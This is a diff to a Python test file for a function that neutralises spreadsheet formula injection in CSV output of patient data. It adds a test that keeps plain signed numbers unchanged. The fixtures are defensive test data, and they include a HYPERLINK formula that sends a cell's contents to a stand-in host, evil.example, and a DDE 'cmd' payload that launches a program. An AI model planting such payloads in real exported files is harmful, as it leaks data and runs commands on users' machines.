@@ -17,7 +17,7 @@ ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 def _frame() -> pd.DataFrame:
     return pd.DataFrame({
-        "patient_id": pd.array([ATTACK, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "plain", None], dtype="string"),
+        "patient_id": pd.array([ATTACK, "+1x", "-x", "@SUM(A1)", "\tx", "\rx", "plain", None], dtype="string"),
         "value": [-1.5, 2.0, -3.0, np.nan, 0.0, 1.0, -7.0, 4.0],
         "category": pd.Categorical(["=1+2", "a", "a", "a", "a", "a", "a", None]),
     })
@@ -26,11 +26,27 @@ def _frame() -> pd.DataFrame:
 def test_spreadsheet_safe_prefixes_every_executable_text_and_keeps_numbers() -> None:
     safe = spreadsheet_safe(_frame())
     ids = safe["patient_id"].tolist()
-    assert ids[:6] == ["'" + text for text in (ATTACK, "+1", "-x", "@SUM(A1)", "\tx", "\rx")]
+    assert ids[:6] == ["'" + text for text in (ATTACK, "+1x", "-x", "@SUM(A1)", "\tx", "\rx")]
     assert ids[6] == "plain" and pd.isna(ids[7])
     assert safe["value"].dtype == np.float64 and safe["value"].iloc[0] == -1.5  # a negative number is not text
     assert safe["category"].iloc[0] == "'=1+2"
     assert all(not str(v).startswith(FORMULA_PREFIXES) for v in safe["patient_id"].dropna())
+
+
+PLAIN_NUMBERS = ["-17", "-0.5", "+3", "-.5", "17.", "-007", "+0.25"]
+FORMULAS = ["-1+2", "-2+3+cmd|' /C calc'!A0", "-1e3", "- 1", "-1.2.3", "-17\n", "-\u0661\u0667", "+A1", "-",
+            "-.", "+-1", "-SUM(A1:A2)"]
+
+
+def test_text_that_is_a_plain_number_is_written_as_it_is() -> None:
+    """A patient_id "-17" was written "'-17" by predict -o, and no longer joined with its input; a sign, digits and
+    one decimal point cannot run as a formula. Anything more, after a sign, is still prefixed."""
+    frame = pd.DataFrame({"patient_id": pd.array(PLAIN_NUMBERS + FORMULAS, dtype="string"),
+                          "category": pd.Categorical(PLAIN_NUMBERS + FORMULAS)})
+    safe = spreadsheet_safe(frame)
+    for column in safe:
+        assert safe[column].tolist()[:len(PLAIN_NUMBERS)] == PLAIN_NUMBERS
+        assert safe[column].tolist()[len(PLAIN_NUMBERS):] == ["'" + text for text in FORMULAS]
 
 
 def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
